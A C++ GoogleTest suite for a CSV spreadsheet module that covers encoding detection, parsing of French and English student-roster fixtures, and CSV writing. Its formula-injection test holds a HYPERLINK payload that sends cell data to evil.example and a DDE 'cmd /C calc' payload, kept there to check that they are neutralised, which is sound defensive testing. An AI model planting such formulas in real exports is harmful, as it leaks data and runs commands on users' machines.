#include "domain/spreadsheet.hpp"

#include "support/fixtures.hpp"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <iterator>

using namespace latitudes::domain;

namespace {

using Rows = std::vector<std::vector<std::string>>;

std::string fixture(const std::string& name) { return latitudes::test::csv_fixture(name); }

CsvTable decoded_table(const std::string& name, std::string* encoding = nullptr) {
    const auto text = decode_to_utf8(fixture(name), encoding);
    if (!text) throw std::runtime_error("undecodable fixture " + name);
    const auto parsed = parse_csv(*text);
    if (!parsed.ok()) throw std::runtime_error("unparsable fixture " + name);
    return parsed.table;
}

}  // namespace

// ---- Encoding --------------------------------------------------------------------------------

TEST(Spreadsheet, DecodeStripsTheBom) {
    std::string encoding;
    EXPECT_EQ(decode_to_utf8("\xEF\xBB\xBFPr\xC3\xA9nom;Nom", &encoding), "Prénom;Nom");
    EXPECT_EQ(encoding, "utf-8-bom");
    EXPECT_EQ(decode_to_utf8("\xEF\xBB\xBF", &encoding), "");
    EXPECT_EQ(encoding, "utf-8-bom");
}

TEST(Spreadsheet, DecodeKeepsUtf8) {
    std::string encoding;
    EXPECT_EQ(decode_to_utf8("Prénom;Nom", &encoding), "Prénom;Nom");
    EXPECT_EQ(encoding, "utf-8");
    EXPECT_EQ(decode_to_utf8("", &encoding), "");
    EXPECT_EQ(encoding, "utf-8");
    EXPECT_EQ(decode_to_utf8("plain ascii"), "plain ascii");  // the out-parameter is optional
}

TEST(Spreadsheet, DecodeReadsWindows1252) {
    std::string encoding;
    // é è ç œ € – ’ « » as Excel writes them.
    const std::string bytes = "\xE9\xE8\xE7\x9C\x80\x96\x92\xAB\xBB\xC9\xB0";
    EXPECT_EQ(decode_to_utf8(bytes, &encoding), "éèçœ€–’«»É°");
    EXPECT_EQ(encoding, "windows-1252");
}

TEST(Spreadsheet, DecodeRefusesBytesUndefinedInWindows1252) {
    for (const char byte : {'\x81', '\x8D', '\x8F', '\x90', '\x9D'}) {
        std::string encoding = "untouched";
        EXPECT_EQ(decode_to_utf8(std::string("caf\xE9 ") + byte, &encoding), std::nullopt) << int(byte);
        EXPECT_EQ(encoding, "untouched");
    }
}

TEST(Spreadsheet, DecodeRefusesDamagedUtf8AfterABomAndUtf16) {
    EXPECT_EQ(decode_to_utf8("\xEF\xBB\xBF"
                             "caf\xE9"),
              std::nullopt);
    EXPECT_EQ(decode_to_utf8(std::string("\xFF\xFEN\0o\0m\0", 8)), std::nullopt);
    EXPECT_EQ(decode_to_utf8(std::string("\xFE\xFF\0N\0o\0m", 8)), std::nullopt);
}

// ---- Reading real files ----------------------------------------------------------------------

TEST(Spreadsheet, ReadsLibreOfficeWithBom) {
    std::string encoding;
    const auto table = decoded_table("libreoffice_fr_bom.csv", &encoding);
    EXPECT_EQ(encoding, "utf-8-bom");
    EXPECT_EQ(table.separator, ';');
    EXPECT_EQ(table.rows, (Rows{{"Prénom", "Nom", "E-mail", "Numéro étudiant", "Groupe"},
                                {"Élodie", "Lefèvre", "elodie.lefevre@etu.univ-exemple.fr", "21900123", "TD1"},
                                {"Jean-Baptiste", "N'Diaye", "JB.NDiaye@etu.univ-exemple.fr", "21900456", "TD2"},
                                {"Chloé", "Dubois-Müller", "chloe.dubois@etu.univ-exemple.fr", "00021789", "TD1"}}));
    EXPECT_EQ(table.line_of_row, (std::vector<int>{1, 2, 3, 4}));
}

TEST(Spreadsheet, ReadsExcelWindows1252) {
    std::string encoding;
    const auto table = decoded_table("excel_fr_windows1252.csv", &encoding);
    EXPECT_EQ(encoding, "windows-1252");
    EXPECT_EQ(table.separator, ';');
    ASSERT_EQ(table.rows.size(), 6u);
    EXPECT_EQ(table.rows[0], (std::vector<std::string>{"Prénom", "Nom", "Adresse e-mail", "N° étudiant", "Classe", "Droits"}));
    EXPECT_EQ(table.rows[1], (std::vector<std::string>{"François", "Lœvenbruck", "francois.loevenbruck@etu.univ-exemple.fr",
                                                       "21800001", "L3 Économie", "170 €"}));
    EXPECT_EQ(table.rows[2][0], "Hélène");
    EXPECT_EQ(table.rows[2][1], "Noël");
    EXPECT_EQ(table.rows[2][5], "Exonérée – boursière");
    EXPECT_EQ(table.rows[3][1], "Garçon");
    // Excel's empty formatted rows are rows of empty cells, not blank lines.
    EXPECT_EQ(table.rows[4], (std::vector<std::string>(6, "")));
    EXPECT_EQ(table.line_of_row, (std::vector<int>{1, 2, 3, 4, 5, 6}));
}

TEST(Spreadsheet, ReadsQuotedMultiLineCells) {
    const auto table = decoded_table("quoted_multiline.csv");
    EXPECT_EQ(table.separator, ';');
    ASSERT_EQ(table.rows.size(), 5u);
    EXPECT_EQ(table.rows[1], (std::vector<std::string>{"Inès", "Moreau", "ines.moreau@etu.univ-exemple.fr",
                                                       "Tiers-temps ; salle calme\nvoir avec la \"Mission handicap\""}));
    EXPECT_EQ(table.rows[2], (std::vector<std::string>{"Théo", "Petit", "theo.petit@etu.univ-exemple.fr", ""}));
    // CRLF inside quotes comes back as "\n".
    EXPECT_EQ(table.rows[3], (std::vector<std::string>{"Anne-Sophie", "Roux", "anne-sophie.roux@etu.univ-exemple.fr",
                                                       "Alternante\nprésente une semaine sur deux\n"}));
    EXPECT_EQ(table.rows[4][3], "RAS");
    EXPECT_EQ(table.line_of_row, (std::vector<int>{1, 2, 4, 5, 8}));
}

TEST(Spreadsheet, ReadsEnglishCommaSeparated) {
    std::string encoding;
    const auto table = decoded_table("english_comma.csv", &encoding);
    EXPECT_EQ(encoding, "utf-8");
    EXPECT_EQ(table.separator, ',');
    EXPECT_EQ(table.rows, (Rows{{"First Name", "Last Name", "Email Address", "Student ID", "Group"},
                                {"Emma", "O'Connor", "emma.oconnor@student.example.ac.uk", "S1234567", "A"},
                                {"Liam", "Smith, Jr.", "Liam.Smith@student.example.ac.uk", "S7654321", "B"},
                                {"Zoë", "Åström", "zoe.astrom@student.example.ac.uk", "S1111111", "A"}}));
    EXPECT_EQ(table.line_of_row, (std::vector<int>{1, 2, 3, 4}));
}

TEST(Spreadsheet, ReadsTabSeparatedWindows1252) {
    std::string encoding;
    const auto table = decoded_table("tab_separated.txt", &encoding);
    EXPECT_EQ(encoding, "windows-1252");
    EXPECT_EQ(table.separator, '\t');
    ASSERT_EQ(table.rows.size(), 4u);
    EXPECT_EQ(table.rows[0], (std::vector<std::string>{"Nom", "Prénom", "Courriel", "Matricule", "TD"}));
    EXPECT_EQ(table.rows[2][1], "Maëlle");
    // ';' and ',' inside a cell are plain text once the separator is the tab.
    EXPECT_EQ(table.rows[3], (std::vector<std::string>{"Mercier", "Anaïs", "anais.mercier@etu.univ-exemple.fr", "22001003",
                                                       "TD A, TD B; soutien"}));
}

TEST(Spreadsheet, ReadsCrOnlyLineEnds) {
    const auto table = decoded_table("cr_only.csv");
    EXPECT_EQ(table.separator, ';');
    EXPECT_EQ(table.rows, (Rows{{"Nom", "Prénom", "E-mail", "Groupe"},
                                {"Martin", "Paul", "paul.martin@etu.univ-exemple.fr", "G1"},
                                {"Durand", "Julie", "julie.durand@etu.univ-exemple.fr", "G2"},
                                {"Leroy", "Hugo", "hugo.leroy@etu.univ-exemple.fr", "G1"}}));
    EXPECT_EQ(table.line_of_row, (std::vector<int>{1, 2, 3, 5}));  // line 4 is blank
}

TEST(Spreadsheet, ReportsWhereAnUnterminatedQuoteBegan) {
    const auto parsed = parse_csv(*decode_to_utf8(fixture("unterminated_quote.csv")));
    ASSERT_FALSE(parsed.ok());
    EXPECT_EQ(parsed.error, (CsvParseError{CsvError::unterminated_quote, 3}));
    EXPECT_EQ(to_string(parsed.error->code), "unterminated_quote");
    EXPECT_EQ(parsed.table.rows.size(), 2u);  // what came before
}

// ---- Reading: the rules one by one -----------------------------------------------------------

TEST(Spreadsheet, DetectsTheSeparatorOnTheHeaderOutsideQuotes) {
    EXPECT_EQ(parse_csv("a;b;c\n1,2,3,4,5\n").table.separator, ';');  // the header decides
    EXPECT_EQ(parse_csv("\"a;b;c\",d,e\n").table.separator, ',');     // quoted ';' do not count
    EXPECT_EQ(parse_csv("a,b;c,d;e\n").table.separator, ';');         // tie: ';'
    EXPECT_EQ(parse_csv("a\tb,c\td\n").table.separator, '\t');
    EXPECT_EQ(parse_csv("email\nx@y.fr\n").table.separator, ';');  // one column
    EXPECT_EQ(parse_csv("\n\n  \na,b\n").table.separator, ',');    // blank lines skipped
    EXPECT_EQ(parse_csv("").table.separator, ';');
}

TEST(Spreadsheet, MixedLineEndsAndTrailingBlankLines) {
    const auto parsed = parse_csv("a;b\r\n1;2\n3;4\r5;6\r\n\r\n\n");
    ASSERT_TRUE(parsed.ok());
    EXPECT_EQ(parsed.table.rows, (Rows{{"a", "b"}, {"1", "2"}, {"3", "4"}, {"5", "6"}}));
    EXPECT_EQ(parsed.table.line_of_row, (std::vector<int>{1, 2, 3, 4}));
}

TEST(Spreadsheet, TrimsOnlyUnquotedCells) {
    const auto parsed = parse_csv("  a  ; \" b \" ;c\n  \n");
    EXPECT_EQ(parsed.table.rows, (Rows{{"a", " b ", "c"}}));
}

TEST(Spreadsheet, QuotesEdgeCases) {
    // Doubled quotes, an empty quoted cell, trailing empty cells.
    EXPECT_EQ(parse_csv("\"a\"\"b\";\"\";;\n").table.rows, (Rows{{"a\"b", "", "", ""}}));
    // A stray quote inside an unquoted cell, and text after a closing quote, are kept.
    EXPECT_EQ(parse_csv("O\"Neil;\"ab\"cd\n").table.rows, (Rows{{"O\"Neil", "abcd"}}));
    // A line holding only "" is a row with one empty cell, not a blank line.
    EXPECT_EQ(parse_csv("a\n\"\"\nb").table.rows, (Rows{{"a"}, {""}, {"b"}}));
    // Separator right at the end of the file.
    EXPECT_EQ(parse_csv("a;").table.rows, (Rows{{"a", ""}}));
    // Unterminated on the first line, after a line break inside quotes.
    EXPECT_EQ(parse_csv("a;b\nc;\"d\ne\nf").error, (CsvParseError{CsvError::unterminated_quote, 2}));
}

TEST(Spreadsheet, LineNumbersCountLineBreaksInsideQuotes) {
    const auto parsed = parse_csv("h\r\n\"1\r\n2\r3\n4\"\r\nnext\r\n");
    EXPECT_EQ(parsed.table.rows, (Rows{{"h"}, {"1\n2\n3\n4"}, {"next"}}));
    EXPECT_EQ(parsed.table.line_of_row, (std::vector<int>{1, 2, 6}));
}

// ---- Writing ---------------------------------------------------------------------------------

TEST(Spreadsheet, WritesBomSemicolonsAndCrlf) {
    EXPECT_EQ(write_csv({{"Prénom", "Nom"}, {"Élodie", "Lefèvre"}}), "\xEF\xBB\xBFPrénom;Nom\r\nÉlodie;Lefèvre\r\n");
    EXPECT_EQ(write_csv({}), "\xEF\xBB\xBF");
}

TEST(Spreadsheet, WritesQuotesOnlyWhereNeeded) {
    EXPECT_EQ(write_csv({{"a;b", "say \"hi\"", "two\nlines", "cr\rhere", " lead", "trail ", "1,5", "plain"}}),
              "\xEF\xBB\xBF\"a;b\";\"say \"\"hi\"\"\";\"two\nlines\";\"cr\rhere\";\" lead\";\"trail \";\"1,5\";plain\r\n");
    EXPECT_EQ(write_csv({{""}, {"", ""}}), "\xEF\xBB\xBF\"\"\r\n;\r\n");
}

TEST(Spreadsheet, GuardsAgainstFormulaInjection) {
    EXPECT_EQ(neutralise_formula("=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")"),
              "'=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")");
    EXPECT_EQ(neutralise_formula("+33 6 12 34 56 78"), "'+33 6 12 34 56 78");
    EXPECT_EQ(neutralise_formula("-2+3"), "'-2+3");
    EXPECT_EQ(neutralise_formula("@SUM(A1:A2)"), "'@SUM(A1:A2)");
    EXPECT_EQ(neutralise_formula("\t=1"), "'\t=1");
    EXPECT_EQ(neutralise_formula("\r=1"), "'\r=1");
    EXPECT_EQ(neutralise_formula("a=b"), "a=b");
    EXPECT_EQ(neutralise_formula(""), "");
    EXPECT_EQ(neutralise_formula("Élodie"), "Élodie");
    // In a file: the apostrophe comes first, inside the quotes when the cell needs them.
    EXPECT_EQ(write_csv({{"=1+1", "=cmd|' /C calc'!A0;x", "ok"}}), "\xEF\xBB\xBF'=1+1;\"'=cmd|' /C calc'!A0;x\";ok\r\n");
}

TEST(Spreadsheet, WriteThenParseGivesTheSameCells) {
    const Rows rows{
        {"Prénom", "Nom", "Remarques", "Montant"},
        {"Inès", "O'Connor; dite \"Nina\"", "ligne 1\nligne 2\n", "1,5 €"},
        {"", " espace ", "", ""},
        {""},
        {"tab\tinside", "a,b,c", "\"\"", "fin"},
        {"Zoë"},
    };
    const auto parsed = parse_csv(*decode_to_utf8(write_csv(rows)));
    ASSERT_TRUE(parsed.ok());
    EXPECT_EQ(parsed.table.separator, ';');
    EXPECT_EQ(parsed.table.rows, rows);
}

TEST(Spreadsheet, WriteThenParseKeepsTheInjectionApostrophe) {
    const Rows rows{{"Nom", "Formule"}, {"Dupont", "=SUM(A1:A9)"}, {"-", "@x"}};
    const auto parsed = parse_csv(*decode_to_utf8(write_csv(rows)));
    EXPECT_EQ(parsed.table.rows, (Rows{{"Nom", "Formule"}, {"Dupont", "'=SUM(A1:A9)"}, {"'-", "'@x"}}));
}
